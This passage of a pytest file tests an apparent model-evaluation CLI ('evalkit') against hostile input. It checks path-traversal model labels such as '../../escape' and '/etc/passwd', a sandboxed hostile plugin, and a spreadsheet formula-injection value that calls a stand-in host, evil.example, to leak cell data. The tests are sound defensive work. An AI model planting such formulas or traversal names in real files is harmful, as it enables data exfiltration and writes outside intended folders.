    mount = (f"mount --bind {rel} {rel} && mount -o remount,ro,bind {rel}" if kind == "ro"
             else f"mount -t tmpfs -o size=12k tmpfs {rel}")
    # the mount lives and dies with this private namespace; report what the full disk kept
    script = (f'{mount} || exit 99; "$@"; rc=$?; echo KEPT $(cat {rel}/results/*/generations.jsonl 2>/dev/null '
              f'| wc -l); exit $rc')
    return ["unshare", "-m", "sh", "-c", script, "sh", *cmd]


@pytest.fixture(scope="session")
def plugin_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site, build = tmp_path_factory.mktemp("hostile-plugin"), tmp_path_factory.mktemp("hostile-plugin-src")
    shutil.copytree(PLUGIN_SRC, build / "src")
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-build-isolation",
                    "--target", str(site), str(build / "src")], check=True, timeout=180)
    return site


def can_unshare() -> bool:
    try:
        return subprocess.run(["unshare", "-m", "true"], capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=[pytest.mark.slow] if c.slow else [])
                                  for c in CASES + CACHE_CASES])
def test_hostile_input_is_one_line_exit_2_and_changes_nothing(case: Case, tmp_path: Path,
                                                               request: pytest.FixtureRequest) -> None:
    if "unshare" in case.needs and not can_unshare():
        pytest.skip("needs a private mount namespace (unshare -m)")
    sb = Sandbox(tmp_path / "sandbox")
    sb.root.mkdir()
    env = dict(ENV)
    if "gpt2" in case.needs:
        sb.gpt2 = sb.root / "base"
        shutil.copytree(request.getfixturevalue("tiny_gpt2_dir"), sb.gpt2)
    if "plugin" in case.needs:
        sb.plugin = request.getfixturevalue("plugin_site")
        env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(sb.plugin), env.get("PYTHONPATH")]))
    args = case.build(sb)
    before = snapshot(sb.root)
    stdout = open(case.stdout, "w") if case.stdout else subprocess.PIPE  # noqa: SIM115
    try:
        res = subprocess.run(command_line(case, args), stdout=stdout, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                             text=True, cwd=sb.root, env=env, timeout=600)
    finally:
        if case.stdout:
            stdout.close()
    err = res.stderr
    assert res.returncode == case.exit, (res.returncode, err[-2000:])
    assert "Traceback" not in err and "Exception ignored" not in err, err[-2000:]
    lines = [ln for ln in err.splitlines() if ln.strip()]
    kind = "error: " if case.exit else "warning: "
    errors = [ln for ln in lines if ln.startswith(kind)]
    if case.exit == 0 and not case.message:
        assert lines == [], err[-2000:]  # nothing to say
    else:
        assert len(errors) == 1 and lines[-1] == errors[0], err[-2000:]
        if not case.progress:
            assert lines == errors, err[-2000:]  # nothing but the one line
        assert re.search(case.message, errors[0]), (case.message, errors[0])
    after = snapshot(sb.root)
    changed = {k for k, v in before.items() if after.get(k) != v} - set(case.changes)
    assert not changed, f"pre-existing files changed or removed: {sorted(changed)}"
    if case.check:
        case.check(sb, res)


@pytest.mark.slow
def test_default_output_of_a_dotdot_label_stays_in_results_and_the_hint_runs(tiny_gpt2_dir, tmp_path):
    """item 11 + the "compare it" hint: a models-file name "../../escape" trains into results/finetuned/,
    and the printed compare command runs as printed from a folder whose path has a space."""
    work = tmp_path / "my work"
    sb = Sandbox(work)
    work.mkdir()
    suite = sb.suite(train=True)
    models = sb.write("m s.toml", f'[models."../../escape"]\nbackend = "hf"\nsource = "{tiny_gpt2_dir}"\n')
    outside = snapshot(tmp_path.parent)
    res = subprocess.run([sys.executable, "-m", "evalkit.cli", "finetune", "../../escape", "--models-file", models.name,
                          "--recipe", "full", "--suite", str(suite), "--max-steps", "1"],
                         capture_output=True, text=True, cwd=work, env=ENV, timeout=600, stdin=subprocess.DEVNULL)
    assert res.returncode == 0, res.stderr[-2000:]
    assert (work / "results" / "finetuned" / "escape" / "training_record.json").is_file()
    new_outside = {k for k in snapshot(tmp_path.parent) if k not in outside and not k.startswith(f"{tmp_path.name}/")}
    assert not new_outside and not (tmp_path / "escape").exists() and not (tmp_path.parent / "escape").exists()
    hint = next(ln for ln in res.stdout.splitlines() if ln.startswith("compare it: ")).removeprefix("compare it: ")
    assert shlex.split(hint) == ["evalkit", "compare", "../../escape",
                                 str((work / "results" / "finetuned" / "escape").resolve()), "--models-file", models.name]
    env = {**ENV, "PATH": os.pathsep.join([str(Path(sys.executable).parent), ENV.get("PATH", "")])}
    run = subprocess.run(["bash", "-c", hint + " --suite smoke --max-new-tokens 4 --scorers repetition --results-dir r"],
                         capture_output=True, text=True, cwd=work, env=env, timeout=600, stdin=subprocess.DEVNULL)
    assert run.returncode == 0, run.stderr[-2000:]
    assert len(list((work / "r").glob("*/generations.jsonl"))) == 1


def test_safe_name_never_leaves_the_folder():
    from evalkit.finetune.train import safe_name

    for label in ("../../escape", "/etc/passwd", "..", ".", "", "a/../../b", "..\\..\\win", "nul\x00byte", "~root"):
        name = safe_name(label)
        assert name and "/" not in name and "\\" not in name and ".." not in name and not name.startswith(".")
        assert (Path("/r") / name).resolve().parent == Path("/r")
    assert safe_name("smollm2-135m") == "smollm2-135m" and safe_name("tiny_gpt2.v1") == "tiny_gpt2.v1"


def evalkit_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "evalkit.cli", *args], capture_output=True, text=True, cwd=cwd,
                          env=ENV, timeout=600, stdin=subprocess.DEVNULL)


def test_pin_force_replaces_only_the_pinned_file_and_intact_runs_pass(tmp_path):
    """item 2's way out (--force) and item 3's control: the same runs without the torn line pass (exit 0)."""
    sb = Sandbox(tmp_path)
    base, cand = _two_runs(sb)
    pin = sb.write("baselines/smoke.json", "an older baseline\n")
    before = snapshot(tmp_path)
    res = evalkit_cli(tmp_path, "regress", "-b", str(base), "--pin", str(pin), "--force")
    assert res.returncode == 0, res.stderr
    after = snapshot(tmp_path)
    assert {k for k in before if after.get(k) != before[k]} == {"baselines/smoke.json"}
    assert json.loads(pin.read_text())["source_run"] == base.name
    res = evalkit_cli(tmp_path, "regress", "-b", str(pin), "-c", str(cand))
    assert res.returncode == 0 and res.stdout.splitlines()[-1].startswith("PASS"), res.stdout + res.stderr


def test_a_damaged_generation_line_written_again_later_loses_nothing(tmp_path):
    """item 8: a torn line whose story was appended again (a resume) is only a note: every story is scored."""
    from evalkit.pipeline import score_run

    run = _run(Sandbox(tmp_path))
    gens = run / "generations.jsonl"
    lines = gens.read_text(encoding="utf-8").splitlines(keepends=True)
    gens.write_text("".join(lines[:2]) + lines[2][:40] + "\n" + "".join(lines[3:]) + lines[2], encoding="utf-8")
    summary = score_run(run, ["repetition"])
    assert summary.problems == [f"{gens}:3: skipped a damaged line (JSONDecodeError)"]
    assert all(m["distinct_2"].n == 5 for m in summary.models.values())


def test_leaderboard_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    """item 10: text cells a spreadsheet would run (= + - @ tab CR) get a leading quote (OWASP); numbers stay numbers."""
    import csv

    from evalkit.pipeline import rate_run

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    run = _run(Sandbox(tmp_path), labels=(evil, "@SUM(1+1)"))
    rate_run(run)
    res = evalkit_cli(tmp_path, "leaderboard", str(run.parent), "-f", "csv")
    assert res.returncode == 0, res.stderr
    rows = list(csv.DictReader(res.stdout.splitlines()))
    assert sorted(r["model"] for r in rows) == sorted(["'" + evil, "'@SUM(1+1)"])
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
        assert int(r["rank"]) in (1, 2)
        stars = [v for k, v in r.items() if k.endswith(" stars") and v]
        values = [v for k, v in r.items() if k.endswith(" value") and v]
        assert stars and values and all(float(v) == float(v) for v in stars + values)  # plain numbers, no quote
    from evalkit.report.leaderboard import csv_cell

    assert [csv_cell(x) for x in ("-2+3", "+1", "\tx", "\rx", "ok", -1.5, 0, None)] == \
        ["'-2+3", "'+1", "'\tx", "'\rx", "ok", -1.5, 0, ""]


def test_hub_hint_only_for_a_hub_id_not_in_the_cache(tmp_path):
    """The 'hub is unreachable' advice belongs to a hub id whose weights are not here, not to local problems."""
    res = evalkit_cli(tmp_path, "compare", "someorg/not-a-cached-model", "--suite", "smoke", "--scorers", "repetition",
                      "--results-dir", "res")
    assert res.returncode == 2 and "not in the local Hugging Face cache" in res.stderr
    assert "The Hugging Face hub is not reachable from here" in res.stderr
    res = evalkit_cli(tmp_path, "compare", str(tmp_path / "no-such-folder"), "--suite", "smoke", "--results-dir", "res")
    assert res.returncode == 2 and "Hugging Face" not in res.stderr, res.stderr


def test_the_torn_scores_advice_runs_and_the_gate_then_judges(tmp_path):
    """item 3: the exit-2 line says how to score the run again; done as printed, the same runs pass."""
    base, cand = _two_runs(Sandbox(tmp_path))
    _torn_line(cand / "scores.jsonl", 3)
    res = evalkit_cli(tmp_path, "regress", "-b", str(base), "-c", str(cand))
    assert res.returncode == 2 and "REGRESSION" not in res.stdout, res.stdout + res.stderr
    fix = re.search(r"delete (\S+) and (\S+), then run `([^`]+)`$", res.stderr.strip())
    assert fix, res.stderr
    for f in fix.group(1, 2):
        Path(f).unlink()
    cmd = shlex.split(fix.group(3))
    assert cmd[0] == "evalkit"
    assert evalkit_cli(tmp_path, *cmd[1:]).returncode == 0
    res = evalkit_cli(tmp_path, "regress", "-b", str(base), "-c", str(cand))
    assert res.returncode == 0 and res.stdout.splitlines()[-1].startswith("PASS"), res.stdout + res.stderr
